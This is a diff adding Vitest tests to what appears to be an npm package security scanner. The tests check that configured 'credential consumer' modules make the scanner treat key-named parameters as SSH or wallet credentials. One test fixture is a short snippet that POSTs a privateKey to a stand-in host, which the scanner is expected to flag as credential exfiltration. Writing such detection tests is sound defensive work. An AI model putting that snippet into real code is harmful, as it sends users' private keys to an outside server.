@@ -3,6 +3,7 @@
 // no front-end reads is a load error naming file and line.
 import { describe, expect, it } from "vitest";
 import { analyzeNpmPackage } from "../../src/analyzers/js/index.js";
+import { irrelevantFiles } from "../../src/analyzers/js/relevance.js";
 import { loadSignatures } from "../../src/rules/signatures.js";
 import { makePackage } from "../analyzers/js/helpers.js";
 import { base, extraDir, jsFindings, loadError, pyFindings, sinksYaml, sourcesYaml } from "./models-helpers.js";
@@ -107,6 +108,28 @@ describe("sources.yaml js tables", () => {
   });
 });
 
+describe("sources.yaml credentialConsumers.js", () => {
+  const code = (module: string) => `const client = require("${module}");\nexports.connect = function (host, privateKey) {\n  fetch("https://c.example.invalid/", { method: "POST", body: privateKey });\n};\n`;
+  const consumers = (group: string) => sources(`credentialConsumers: { js: { ${group}: [zorblat-keys] } }\n`);
+  const kinds = async (signatures: typeof base) => (await analyzeNpmPackage(makePackage({ "index.js": code("zorblat-keys") }), signatures)).sources.map((s) => s.kind);
+
+  it("a file importing a new consumer reads its key-named parameters as credentials: SSH keys (ssh, other) or wallet keys (wallet)", async () => {
+    expect(await jsFindings(code("zorblat-keys"), base)).toEqual([]);
+    expect(await jsFindings(code("zorblat-keys"), consumers("ssh"))).toEqual(["credential-exfiltration critical 3"]);
+    expect(await kinds(base)).toEqual([]);
+    expect(await kinds(consumers("ssh"))).toEqual(["ssh-key"]);
+    expect(await kinds(consumers("wallet"))).toEqual(["keychain"]);
+    expect(await kinds(consumers("other"))).toEqual(["ssh-key"]);
+  });
+
+  it("ssh: a file importing a new SSH client is analysed on its own (relevance)", () => {
+    const files = new Map([["index.js", Buffer.from('const client = require("zorblat-keys");\nexports.connect = (host, password) => client.login(host, password);\n')]]);
+    expect(irrelevantFiles(files, ["index.js"], base)).toEqual(new Set(["index.js"]));
+    expect(irrelevantFiles(files, ["index.js"], consumers("wallet"))).toEqual(new Set(["index.js"]));
+    expect(irrelevantFiles(files, ["index.js"], consumers("ssh"))).toEqual(new Set());
+  });
+});
+
 describe("an entry no front-end reads", () => {
   it("configMembers or authOptions for Python, an unknown runners.js field: errors at their line", () => {
     expect(loadError({ "sinks.yaml": "js: { modules: {}, globals: {} }\npython:\n  modules: {}\n  builtins: {}\n  configMembers: [create]\nshellPrograms: {}\n" }).message).toMatch(/sinks\.yaml:3: python: Unrecognized key: "configMembers"/);
@@ -117,6 +140,7 @@ describe("an entry no front-end reads", () => {
     const error = (more: string) => loadError({ "sources.yaml": sourcesYaml("[]", "[]", more) }).message;
     expect(error("fileApis:\n  python:\n    reads: [open]\n")).toMatch(/sources\.yaml:5: fileApis: Unrecognized key: "python"/);
     expect(error("promptModules:\n  python: [getpass]\n")).toMatch(/sources\.yaml:5: promptModules: Unrecognized key: "python"/);
+    expect(error("credentialConsumers:\n  js:\n    database: [pg]\n")).toMatch(/sources\.yaml:6: credentialConsumers\.js: Unrecognized key: "database"/);
     expect(error("homeVariables:\n  - home\n")).toMatch(/sources\.yaml:5: homeVariables\.0: an environment variable name in upper case/);
     expect(error("homeFolders:\n  js:\n    ZSSH: /etc/ssh\n")).toMatch(/sources\.yaml:6: homeFolders\.js\.ZSSH: a folder under the home directory/);
   });
